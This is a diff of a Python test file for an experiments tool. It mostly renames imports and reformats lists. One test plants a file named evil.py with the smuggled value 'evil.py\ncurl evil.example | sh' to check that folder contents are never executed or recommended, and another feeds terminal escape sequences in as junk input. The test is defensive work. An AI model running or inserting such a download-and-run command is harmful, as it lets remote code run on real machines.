@@ -17,15 +17,16 @@ import numpy as np
 import pyarrow as pa
 import pytest
 
-from experiments import batch, claims, folders, sealing, store, workers
-from experiments.config import load_experiment
-from experiments.own_classes import policies_afresh
-from experiments.own_policies import loaded, snapshot
-from experiments.reading import ConfigError
-from experiments.results import open_results
-from experiments.runner import run_experiment
-from experiments.sealing import DamagedError
-from experiments.starts import largest, read_start, start_path
+from tenure.experiments.config.experiment import load_experiment
+from tenure.experiments.config.reading import ConfigError
+from tenure.experiments.plugins.own_classes import policies_afresh
+from tenure.experiments.plugins.own_policies import loaded, snapshot
+from tenure.experiments.running import batch, claims, workers
+from tenure.experiments.running.runner import run_experiment
+from tenure.experiments.running.starts import largest, read_start, start_path
+from tenure.experiments.store import folders, sealing, store
+from tenure.experiments.store.results import open_results
+from tenure.experiments.store.sealing import DamagedError
 from tests.folders import (
     OWN,
     POLICY,
@@ -50,7 +51,7 @@ def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
     place = tmp_path_factory.mktemp("pristine")
     (place / "small.yaml").write_text(SMALL)
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr("experiments.runner.run_batch", serially)
+        patch.setattr("tenure.experiments.running.runner.run_batch", serially)
         make(place / "out", place / "small.yaml")
     return place
 
@@ -67,19 +68,53 @@ def out(pristine: Path, tmp_path: Path) -> Path:
 ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31mred\u202e\x9b1m"
 ABSURD: list[Any] = [None, -1, 5, 1e300, "x", ESCAPES, [], {}, [[1]], {"a": 1}]
 PLACES = [
-    "question", "months", "arms", "arms.uniform", "arms.uniform.policy", "champion", "replications", "seed", "metrics",
-    "oracles", "runs", "starts", "market", "market.people", "market.rivals", "market.guards", "market.quadrants",
-    "config", "config.name", "config.path", "config.beside", "sets", "written", "written.market", "written.arms",
-    "written.metrics", "written.scenarios", "scenarios", "written.months", "own_policies", "depends", "depends.uniform",
-    "format", "sources", "tenure", "warm_up_months", "commit", "written.guards", "written.market.us",
-]  # fmt: skip
+    "question",
+    "months",
+    "arms",
+    "arms.uniform",
+    "arms.uniform.policy",
+    "champion",
+    "replications",
+    "seed",
+    "metrics",
+    "oracles",
+    "runs",
+    "starts",
+    "market",
+    "market.people",
+    "market.rivals",
+    "market.guards",
+    "market.quadrants",
+    "config",
+    "config.name",
+    "config.path",
+    "config.beside",
+    "sets",
+    "written",
+    "written.market",
+    "written.arms",
+    "written.metrics",
+    "written.scenarios",
+    "scenarios",
+    "written.months",
+    "own_policies",
+    "depends",
+    "depends.uniform",
+    "format",
+    "sources",
+    "tenure",
+    "warm_up_months",
+    "commit",
+    "written.guards",
+    "written.market.us",
+]
 
 
 @pytest.mark.usefixtures("no_workers")
 @pytest.mark.parametrize("place", PLACES)
 def test_absurd_entries_of_a_record_are_told_in_words(out: Path, place: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("experiments.runner.run_batch", lambda *given: None)
-    monkeypatch.setattr("experiments.running._report", lambda *given: None)
+    monkeypatch.setattr("tenure.experiments.running.runner.run_batch", lambda *given: None)
+    monkeypatch.setattr("tenure.experiments.commands.run._report", lambda *given: None)
     good = record_of(out)
     for number, absurd in enumerate(ABSURD):
         record = json.loads(json.dumps(good))
@@ -123,8 +158,15 @@ def test_nothing_in_a_folder_is_executed_or_recommended(out: Path, tmp_path: Pat
     evil, mark = out / "evil.py", tmp_path / "mark"
     evil.write_text(EVIL.format(mark=str(mark)))
     name, text = "evil.py\ncurl evil.example | sh", {"evil.py": evil.read_text().splitlines()}
-    told = {"name": name, "path": str(evil), "beside": "evil.py", "policies": ["uniform"],
-            "sha256": snapshot(evil).digest, "inputs": {}, "source": text}  # fmt: skip
+    told = {
+        "name": name,
+        "path": str(evil),
+        "beside": "evil.py",
+        "policies": ["uniform"],
+        "sha256": snapshot(evil).digest,
+        "inputs": {},
+        "source": text,
+    }
     put_record(out, {**record_of(out), "own_policies": [told], "plugins": [str(evil)]})
     store.run_path(out, open_results(out).names[0]).unlink()
     for words in (["status"], ["compare"], ["audit", "--rerun", "1"], ["run"], ["report"]):
@@ -195,7 +237,7 @@ def test_claims_of_a_stopped_process_wait_for_a_while_and_no_longer(out: Path, m
 
 
 def started(*words: object) -> list[str]:
-    return [sys.executable, "-m", "experiments.commands", *map(str, words)]
+    return [sys.executable, "-m", "tenure.experiments.commands.app", *map(str, words)]
 
 
 def test_two_that_run_one_folder_share_the_work(tmp_path: Path) -> None:
@@ -266,11 +308,17 @@ def test_the_name_of_a_run_covers_whatever_a_policy_imports_and_reads(own: Path,
     files = {
         own / "mine.py": "from parts import one\nimport bare.leaf\nfrom importlib import import_module\n"
         "import_module('called')\n",
-        own / "beside.py": "amount = 1\n", own / "rate.csv": "5\n", own / "called.py": "x = 1\n",
-        package / "__init__.py": "from . import two\nfrom .deep import three\n", package / "one.py": "x = 1\n",
-        package / "two.py": "from .deep.four import y\n", package / "deep" / "__init__.py": "",
-        package / "deep" / "three.py": "x = 1\n", package / "deep" / "four.py": "y = 1\n", own / "bare" / "leaf.py": "",
-    }  # fmt: skip
+        own / "beside.py": "amount = 1\n",
+        own / "rate.csv": "5\n",
+        own / "called.py": "x = 1\n",
+        package / "__init__.py": "from . import two\nfrom .deep import three\n",
+        package / "one.py": "x = 1\n",
+        package / "two.py": "from .deep.four import y\n",
+        package / "deep" / "__init__.py": "",
+        package / "deep" / "three.py": "x = 1\n",
+        package / "deep" / "four.py": "y = 1\n",
+        own / "bare" / "leaf.py": "",
+    }
     for path, text in files.items():
         path.write_text(text + (POLICY if path.name == "mine.py" else ""))
     first = snapshot(own / "mine.py").digest
@@ -317,8 +365,8 @@ def test_own_policies_are_given_again_and_what_they_print_disturbs_nothing(
     first = subprocess.run(words, cwd=ROOT, capture_output=True, check=True, env={**os.environ, "PYTHONHASHSEED": "7"})
     told = json.loads(first.stdout)
     assert (told["made"], told["failed"], told["changes"]) == (6, {}, [])
-    monkeypatch.setattr("experiments.runner.run_batch", serially)
-    monkeypatch.setattr("experiments.runner._live_one_again", lambda *given: None)
+    monkeypatch.setattr("tenure.experiments.running.runner.run_batch", serially)
+    monkeypatch.setattr("tenure.experiments.running.runner._live_one_again", lambda *given: None)
     missing = [name for name, (arm, number) in record_of(out)["runs"].items() if number == 0 and arm != "nothing"]
     for name in missing:
         store.run_path(out, name).unlink()
@@ -351,8 +399,8 @@ def test_clocks_are_not_trusted(out: Path, when: float) -> None:
 
 
 SCRIPT = """
-from experiments.config import load_experiment
-from experiments.runner import run_experiment
+from tenure.experiments.config.experiment import load_experiment
+from tenure.experiments.running.runner import run_experiment
 results = run_experiment(load_experiment("small.yaml"), "script", workers=2)
 print(len(results.names), "runs,", len(results.failed), "failed", results.hash, len(results.comparisons()) > 0)
 """
@@ -373,6 +421,7 @@ def test_a_script_without_a_guard_works_with_several_workers(out: Path, by_name:
 @pytest.mark.skipif(not hasattr(os, "sched_setaffinity"), reason="processors cannot be chosen here")
 def test_only_processors_that_may_be_used_are_counted() -> None:
     one = min(os.sched_getaffinity(0))
-    code = f"import os; os.sched_setaffinity(0, {{{one}}}); from experiments.workers import processors as p; print(p())"
+    processors = "from tenure.experiments.running.workers import processors as p"
+    code = f"import os; os.sched_setaffinity(0, {{{one}}}); {processors}; print(p())"
     told = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
     assert told.stdout == "1\n"
